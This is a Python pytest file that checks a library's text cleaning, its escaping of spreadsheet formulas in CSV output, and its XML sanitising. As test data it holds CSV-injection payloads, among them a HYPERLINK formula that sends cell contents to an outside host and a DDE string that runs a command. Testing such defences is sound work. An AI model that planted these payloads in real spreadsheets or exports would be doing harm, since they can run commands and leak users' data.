"""Texts of people in tables and documents: harmless there, and read back as they were."""

from pathlib import Path
from xml.etree import ElementTree

import pandas as pd
import pytest

from ejectamap.errors import CraterError
from ejectamap.texts import clean, valid_xml, write_csv
from ejectamap.world.csv_files import read_text_table

FORMULAS = (
    '=HYPERLINK("http://x.org?"&A1,"Degas")',
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3",
    "@SUM(1)",
    "\uff1d1+1",
)
PLAIN = (
    "Degas",
    "Xiao Zhao",
    "O'Brien",
    "'t Hooft",
    "Cézanne",
    "a=b",
    "",
    "-5",
    "+3.5e2",
    "-inf",
    "0x1",
)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Degas\t", "Degas"),
        ("  Han\u00a0\u2003Kan ", "Han Kan"),
        ("De\x00gas\x1b[31m\r\n", "De gas [31m"),
        ("\u202esaged\u202c", "saged"),
        ("soft\u00adhyphen\ufeff", "softhyphen"),
        ("\ud800x\uffff\ufdd0", "x"),
        ("می\u200cخواهم", "می\u200cخواهم"),
        ("蕪村", "蕪村"),
        ("\U0001f680", "\U0001f680"),
        ("x" * 30, "x" * 11 + "…"),
    ],
)
def test_clean(text: str, expected: str) -> None:
    assert clean(text, 12) == expected
    assert clean(expected, 12) == expected


def test_tables_hold_no_formulas_and_give_the_texts_back(tmp_path: Path) -> None:
    texts = [*FORMULAS, *PLAIN]
    table = pd.DataFrame({"=name": texts, "x": [-1.5] * len(texts), "n": range(len(texts))})
    content = write_csv(table, float_format="%.6g")
    lines = content.decode().splitlines()
    assert lines[0] == "'=name,x,n"
    assert not any(line.lstrip('"').startswith(("=", "@", "+1", "-2", "\uff1d")) for line in lines)
    (tmp_path / "t.csv").write_bytes(content)
    read = read_text_table(tmp_path / "t.csv", CraterError)
    assert read.header == ("=name", "x", "n")
    assert [row[0] for row in read.rows] == texts
    assert {row[1] for row in read.rows} == {"-1.5"}
    assert table["=name"].tolist() == texts  # unchanged


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_formula_is_written_as_it_is(text: str) -> None:
    assert write_csv(pd.DataFrame({"a": [text], "b": [1]})).decode() == f"a,b\n{text},1\n"


def test_documents_stay_readable() -> None:
    document = "<a b='x\x00\x1b\ud800\ufffey\t\U0001f680'>é</a>"
    root = ElementTree.fromstring(valid_xml(document))
    assert root.attrib["b"] == "xy \U0001f680"
    assert root.text == "é"
